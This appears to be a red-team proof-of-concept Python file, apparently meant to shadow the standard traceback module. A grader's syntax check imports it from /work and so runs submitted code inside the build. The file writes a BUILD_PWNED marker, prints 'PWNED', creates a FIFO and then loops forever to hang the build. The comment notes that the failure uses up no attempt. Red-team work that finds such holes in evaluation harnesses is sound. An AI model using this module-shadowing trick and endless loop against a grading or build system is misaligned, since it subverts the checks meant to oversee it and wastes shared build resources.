# Red team: the syntax check ran `import traceback` with /work first on sys.path, so this ran
# in the build, under the build's limits, with no attempt used when it failed.
import os

with open("/work/BUILD_PWNED", "w") as marker:
    marker.write("the build imported the submission")
print("PWNED")
os.mkfifo("/work/left_by_the_build")
while True:
    pass
